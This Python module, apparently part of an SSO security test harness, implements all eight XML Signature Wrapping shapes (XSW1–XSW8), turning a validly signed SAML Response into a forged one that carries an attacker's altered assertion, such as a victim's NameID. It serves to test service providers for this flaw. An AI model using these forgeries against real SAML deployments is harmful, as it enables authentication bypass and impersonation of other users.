"""XML Signature Wrapping, the eight shapes SAML Raider mounts (XSW1 to XSW8).

Each shape keeps a signature *valid* while moving the signed content to a
place the SP does not read, and puts an evil copy where a careless SP does
read. An SP is safe when it consumes exactly the element its verified
signature covers (SAML core §5.4.2); see Somorovsky et al., "On Breaking
SAML" (2012). The shapes, in our words:

XSW1/XSW2 target a signed *Response*: the root becomes the evil Response
under a fresh ID, and an unsigned copy of the original Response (with the
original ID, so the signature still resolves to it) goes inside the
Signature (XSW1) or just before it (XSW2).

XSW3 to XSW8 target a signed *Assertion*:

* XSW3: an unsigned evil copy under a fresh ID goes before the original.
* XSW4: the evil copy replaces the original, which moves inside it.
* XSW5: the original turns evil in place (fresh ID, its Signature kept); a
  clean unsigned copy with the original ID is appended to the Response.
* XSW6: as XSW5, but the clean copy goes inside the evil one's Signature.
* XSW7: an evil copy keeping the original ID goes into ``samlp:Extensions``
  before the original.
* XSW8: the original turns evil in place (same ID); a clean copy goes into a
  ``ds:Object`` inside its Signature.

``evil`` is the change the attacker wants read (e.g. the victim's NameID).
Every function returns a new tree; the input is not modified. A response
without the signature a shape needs raises :class:`XswNotApplicable`.
"""

from __future__ import annotations

from collections.abc import Callable

from lxml import etree

from sso_harness.apps.security.saml_xml import (
    clone,
    ds,
    first_assertion,
    fresh_id,
    remove,
    samlp,
    signature_over,
)

__all__ = ["XswNotApplicable", "Evil", "XSW", "wrap", "response_signed", "assertion_signed"]

Evil = Callable[[etree._Element], None]
"""Rewrites an Assertion in place (the attacker's change)."""


class XswNotApplicable(ValueError):
    """The response lacks the signature this wrapping shape abuses."""


def response_signed(response: etree._Element) -> bool:
    return signature_over(response) is not None


def assertion_signed(response: etree._Element) -> bool:
    assertion = first_assertion(response)
    return assertion is not None and signature_over(assertion) is not None


def _evil_response(response: etree._Element, evil: Evil) -> etree._Element:
    assertion = first_assertion(response)
    if assertion is None:
        raise XswNotApplicable("the Response carries no plaintext Assertion to alter")
    evil(assertion)
    return response


def _response_shape(signed: etree._Element, evil: Evil, *, inside: bool) -> etree._Element:
    root = clone(signed)
    signature = signature_over(root)
    if signature is None:
        raise XswNotApplicable("the Response itself is not signed (XSW1/XSW2 wrap a Response signature)")
    original = clone(root)
    original.tail = None
    remove(signature_over(original))
    _evil_response(root, evil)
    if inside:
        signature.append(original)
    else:
        signature.addprevious(original)
    root.set("ID", fresh_id("_evil_response"))
    return root


def _signed_assertion(root: etree._Element) -> tuple[etree._Element, etree._Element]:
    assertion = first_assertion(root)
    signature = None if assertion is None else signature_over(assertion)
    if assertion is None or signature is None:
        raise XswNotApplicable("the Assertion is not signed (XSW3 to XSW8 wrap an Assertion signature)")
    return assertion, signature


def _unsigned_copy(assertion: etree._Element) -> etree._Element:
    copy = clone(assertion)
    copy.tail = None
    remove(signature_over(copy))
    return copy


def xsw1(signed: etree._Element, evil: Evil) -> etree._Element:
    return _response_shape(signed, evil, inside=True)


def xsw2(signed: etree._Element, evil: Evil) -> etree._Element:
    return _response_shape(signed, evil, inside=False)


def xsw3(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, _ = _signed_assertion(root)
    bad = _unsigned_copy(assertion)
    bad.set("ID", fresh_id("_evil_assertion"))
    evil(bad)
    assertion.addprevious(bad)
    return root


def xsw4(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, _ = _signed_assertion(root)
    bad = _unsigned_copy(assertion)
    bad.set("ID", fresh_id("_evil_assertion"))
    evil(bad)
    assertion.addprevious(bad)
    remove(assertion)
    assertion.tail = None
    bad.append(assertion)
    return root


def xsw5(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, _ = _signed_assertion(root)
    good = _unsigned_copy(assertion)
    evil(assertion)
    assertion.set("ID", fresh_id("_evil_assertion"))
    root.append(good)
    return root


def xsw6(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, signature = _signed_assertion(root)
    good = _unsigned_copy(assertion)
    evil(assertion)
    assertion.set("ID", fresh_id("_evil_assertion"))
    signature.append(good)
    return root


def xsw7(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, _ = _signed_assertion(root)
    extensions = etree.Element(samlp("Extensions"))
    assertion.addprevious(extensions)
    bad = _unsigned_copy(assertion)
    evil(bad)
    extensions.append(bad)
    return root


def xsw8(signed: etree._Element, evil: Evil) -> etree._Element:
    root = clone(signed)
    assertion, signature = _signed_assertion(root)
    good = _unsigned_copy(assertion)
    evil(assertion)
    holder = etree.SubElement(signature, ds("Object"))
    holder.append(good)
    return root


XSW: dict[int, Callable[[etree._Element, Evil], etree._Element]] = {
    1: xsw1, 2: xsw2, 3: xsw3, 4: xsw4, 5: xsw5, 6: xsw6, 7: xsw7, 8: xsw8,
}


def wrap(n: int, signed: etree._Element, evil: Evil) -> etree._Element:
    """Apply XSW shape ``n`` (1 to 8) to the signed Response ``signed``."""
    try:
        shape = XSW[n]
    except KeyError:
        raise ValueError(f"no XSW shape {n}; shapes are 1 to 8") from None
    return shape(signed, evil)
